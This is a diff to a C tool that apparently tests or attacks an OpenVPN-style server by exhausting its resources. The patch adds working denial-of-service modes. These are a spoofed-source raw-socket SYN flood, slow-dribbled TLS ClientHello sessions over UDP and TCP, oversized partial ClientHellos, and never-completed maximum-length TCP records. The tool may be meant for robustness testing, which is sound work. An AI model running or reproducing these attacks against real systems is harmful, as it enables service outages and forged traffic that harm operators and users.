@@ -13,6 +13,7 @@
 #include <linux/if_ether.h>
 #include <netinet/in.h>
 #include <netinet/ip.h>
+#include <netinet/tcp.h>
 #include <netinet/udp.h>
 #include <poll.h>
 #include <stdbool.h>
@@ -37,7 +38,11 @@ enum {
 	OP_WKC_V1 = 11,
 	RESET_LEN = 14,
 	SERVER_RESET_LEN = 26, /* without any wrap */
+	ACK_LEN = 22,
+	CONTROL_HEADER_LEN = 26, /* with one acknowledgement */
 	TCP_HOLD_SEC = 3,
+	DRIBBLES = 60,
+	HELLO_LARGE = 128 * 1024, /* OpenSSL's limit */
 };
 
 struct packet {
@@ -289,34 +294,152 @@ static void wkc(struct attack *a)
 	}
 }
 
+/* ---- sessions without a wrap which begin well ---- */
+
+/* A client which got the server's first packet and acknowledged it. */
+struct begun {
+	int fd; /* -1: no answer came */
+	bool tcp;
+	uint8_t own_id[8], server_id[8];
+	uint32_t next_id;
+};
+
+static void begun_send(const struct begun *b, const uint8_t *packet, size_t len)
+{
+	uint8_t record[2 + PAYLOAD_MAX] = {(uint8_t)(len >> 8), (uint8_t)len};
+
+	memcpy(record + 2, packet, len);
+	(void)send(b->fd, record + (b->tcp ? 0 : 2), len + (b->tcp ? 2 : 0),
+		   MSG_NOSIGNAL | MSG_DONTWAIT);
+}
+
+/* @bytes of TLS as the next control message; the server's first one is acknowledged each time */
+static void begun_control(struct attack *a, struct begun *b, const uint8_t *bytes, size_t len)
+{
+	uint8_t packet[PAYLOAD_MAX] = {OP_CONTROL_V1 << 3};
+	const uint32_t id = htonl(b->next_id++);
+
+	memcpy(packet + 1, b->own_id, 8);
+	packet[9] = 1;
+	memcpy(packet + 14, b->server_id, 8);
+	memcpy(packet + 22, &id, sizeof(id));
+	memcpy(packet + CONTROL_HEADER_LEN, bytes, len);
+	pace(a);
+	begun_send(b, packet, CONTROL_HEADER_LEN + len);
+}
+
+static bool begun_open(struct attack *a, struct begun *b, bool tcp)
+{
+	const int type = tcp ? SOCK_STREAM : SOCK_DGRAM;
+	uint8_t reset[RESET_LEN], in[2048];
+	uint8_t ack[ACK_LEN] = {
+		[0] = OP_ACK_V1 << 3, [9] = 1}; /* of message 0: proves the address */
+	const uint8_t *answer = in + (tcp ? 2 : 0);
+	struct pollfd p;
+	ssize_t n;
+
+	*b = (struct begun){
+		.fd = socket(AF_INET, type | SOCK_CLOEXEC, 0), .tcp = tcp, .next_id = 1};
+	make_reset(reset, OP_RESET_V2);
+	memcpy(b->own_id, reset + 1, sizeof(b->own_id));
+	pace(a);
+	if (b->fd < 0 || connect(b->fd, (const struct sockaddr *)&a->server, sizeof(a->server)))
+		die("socket");
+	begun_send(b, reset, sizeof(reset));
+	p = (struct pollfd){.fd = b->fd, .events = POLLIN};
+	n = poll(&p, 1, 200) > 0 ? recv(b->fd, in, sizeof(in), 0) - (answer - in) : 0;
+	if (n < SERVER_RESET_LEN || answer[0] >> 3 != OP_RESET_SERVER_V2) {
+		close(b->fd);
+		b->fd = -1;
+		return false;
+	}
+	memcpy(b->server_id, answer + 1, sizeof(b->server_id));
+	memcpy(ack + 1, b->own_id, 8);
+	memcpy(ack + 14, b->server_id, 8);
+	begun_send(b, ack, sizeof(ack));
+	return true;
+}
+
+static struct begun *begun_open_all(struct attack *a, bool tcp)
+{
+	struct begun *all = calloc(a->count, sizeof(*all));
+	unsigned int good = 0;
+
+	if (!all)
+		die("memory");
+	for (unsigned int i = 0; i < a->count; i++)
+		good += begun_open(a, &all[i], tcp);
+	printf("%u of %u sessions begun\n", good, a->count);
+	return all;
+}
+
+static void begun_close_all(const struct attack *a, struct begun *all)
+{
+	for (unsigned int i = 0; i < a->count; i++)
+		if (all[i].fd >= 0)
+			close(all[i].fd);
+	free(all);
+}
+
 /* Prove the address, then never go on: the server holds a session for each. */
 static void stalled(struct attack *a)
 {
-	unsigned int proven = 0;
+	begun_close_all(a, begun_open_all(a, false));
+}
 
-	for (unsigned int i = 0; i < a->count; i++) {
-		uint8_t out[64], in[2048];
-		int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
-		struct pollfd p = {.fd = fd, .events = POLLIN};
+/* A ClientHello of @len bytes in TLS records of full size; what is in it is never looked at, for
+ * its end never comes. */
+static uint8_t hello_byte(size_t at, size_t len)
+{
+	const uint8_t record[5] = {22, 3, 1, 0x40, 0},
+		      head[4] = {1, (uint8_t)(len >> 16), (uint8_t)(len >> 8), (uint8_t)len};
+	const size_t in_record = at % (sizeof(record) + 0x4000);
 
-		make_reset(out, OP_RESET_V2);
-		pace(a);
-		if (fd < 0 || connect(fd, (const struct sockaddr *)&a->server, sizeof(a->server)) ||
-		    send(fd, out, RESET_LEN, 0) < 0)
-			die("udp socket");
-		if (poll(&p, 1, 200) > 0 && recv(fd, in, sizeof(in), 0) >= SERVER_RESET_LEN &&
-		    in[0] >> 3 == OP_RESET_SERVER_V2) {
-			/* an acknowledgement of message 0, with the server's session id */
-			out[0] = OP_ACK_V1 << 3;
-			out[9] = 1;
-			memset(out + 10, 0, 4);
-			memcpy(out + 14, in + 1, 8);
-			(void)send(fd, out, 22, 0);
-			proven++;
-		}
-		close(fd);
-	}
-	printf("%u of %u addresses proven\n", proven, a->count);
+	if (in_record < sizeof(record))
+		return record[in_record];
+	return at < sizeof(record) + sizeof(head) ? head[at - sizeof(record)] : (uint8_t)at;
+}
+
+static void hello_part(struct attack *a, struct begun *b, size_t from, size_t n, size_t len)
+{
+	uint8_t part[PAYLOAD_MAX];
+
+	for (size_t i = 0; i < n; i++)
+		part[i] = hello_byte(from + i, len);
+	if (b->fd >= 0)
+		begun_control(a, b, part, n);
+}
+
+/* Slow TLS: two bytes of a ClientHello at a time, from all sessions in turn. */
+static void hello_dribbled(struct attack *a, bool tcp)
+{
+	struct begun *all = begun_open_all(a, tcp);
+
+	for (size_t at = 0; at < 2 * DRIBBLES; at += 2)
+		for (unsigned int i = 0; i < a->count; i++)
+			hello_part(a, &all[i], at, 2, 512);
+	begun_close_all(a, all);
+}
+
+static void udp_dribbled(struct attack *a)
+{
+	hello_dribbled(a, false);
+}
+
+static void tcp_dribbled(struct attack *a)
+{
+	hello_dribbled(a, true);
+}
+
+/* As much of one ClientHello as a server will hold, from all sessions. */
+static void hello_large(struct attack *a)
+{
+	struct begun *all = begun_open_all(a, false);
+
+	for (size_t at = 0; at < HELLO_LARGE; at += 1200)
+		for (unsigned int i = 0; i < a->count; i++)
+			hello_part(a, &all[i], at, 1200, HELLO_LARGE);
+	begun_close_all(a, all);
 }
 
 /* ---- connections --------------------------------------------------------------------------- */
@@ -358,6 +481,72 @@ static void tcp_slow(struct attack *a)
 	free(fds);
 }
 
+static uint16_t tcp_checksum(const struct attack *a, struct in_addr from, const struct tcphdr *tcp)
+{
+	struct {
+		uint32_t from, to;
+		uint16_t protocol, len;
+		struct tcphdr tcp;
+	} sum = {from.s_addr, a->server.sin_addr.s_addr, htons(IPPROTO_TCP), htons(sizeof(*tcp)),
+		 *tcp};
+	uint16_t words[sizeof(sum) / 2];
+	uint32_t total = 0;
+
+	memcpy(words, &sum, sizeof(sum));
+	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
+		total += words[i];
+	total = (total & 0xffff) + (total >> 16);
+	return (uint16_t) ~((total & 0xffff) + (total >> 16));
+}
+
+/* The first packet of a connection and nothing after, from strangers. */
+static void tcp_half_open(struct attack *a)
+{
+	for (unsigned int i = 0; i < a->count; i++) {
+		struct in_addr from = stranger();
+		struct iphdr ip = {
+			.version = 4,
+			.ihl = 5,
+			.ttl = 64,
+			.protocol = IPPROTO_TCP,
+			.saddr = from.s_addr,
+			.daddr = a->server.sin_addr.s_addr,
+		};
+		struct tcphdr tcp = {
+			.source = htons((uint16_t)(1024 + draw(60000))),
+			.dest = a->server.sin_port,
+			.seq = draw(UINT32_MAX),
+			.doff = sizeof(tcp) / 4,
+			.syn = 1,
+			.window = htons(65535),
+		};
+		uint8_t frame[sizeof(ip) + sizeof(tcp)];
+
+		tcp.check = tcp_checksum(a, from, &tcp);
+		memcpy(frame, &ip, sizeof(ip));
+		memcpy(frame + sizeof(ip), &tcp, sizeof(tcp));
+		pace(a);
+		(void)sendto(a->raw, frame, sizeof(frame), 0, (const struct sockaddr *)&a->server,
+			     sizeof(a->server));
+	}
+}
+
+/* The largest record that a length can tell, never complete. */
+static void tcp_large(struct attack *a)
+{
+	static uint8_t bytes[2 + UINT16_MAX];
+
+	memset(bytes, 0xff, 2);
+	bytes[2] = OP_RESET_V2 << 3;
+	for (unsigned int i = 0; i < a->count; i++) {
+		int fd = tcp_connect(a);
+
+		bytes[0] = i % 2 ? 0xff : 0x06; /* as large as any, and as a server may allow */
+		(void)send(fd, bytes, sizeof(bytes) - 1 - (i % 2 ? 0 : 0xf800), MSG_NOSIGNAL);
+	}
+	sleep(TCP_HOLD_SEC);
+}
+
 /* Lengths of 0, of too much, and packets of every kind in good records. */
 static void tcp_garbage(struct attack *a)
 {
@@ -388,10 +577,21 @@ static const struct kind {
 	const char *name;
 	void (*run)(struct attack *a);
 } kinds[] = {
-	{"resets", resets},	 {"garbage", garbage},	 {"oversized", oversized},
-	{"replay", replay},	 {"forge", forge},	 {"wkc", wkc},
-	{"stalled", stalled},	 {"silent", tcp_silent}, {"slow", tcp_slow},
+	{"resets", resets},
+	{"garbage", garbage},
+	{"oversized", oversized},
+	{"replay", replay},
+	{"forge", forge},
+	{"wkc", wkc},
+	{"stalled", stalled},
+	{"silent", tcp_silent},
+	{"slow", tcp_slow},
 	{"broken", tcp_garbage},
+	{"half-open", tcp_half_open},
+	{"large", tcp_large},
+	{"dribbled-hello", udp_dribbled},
+	{"large-hello", hello_large},
+	{"dribbled-hello-tcp", tcp_dribbled},
 };
 
 int main(int argc, char **argv)
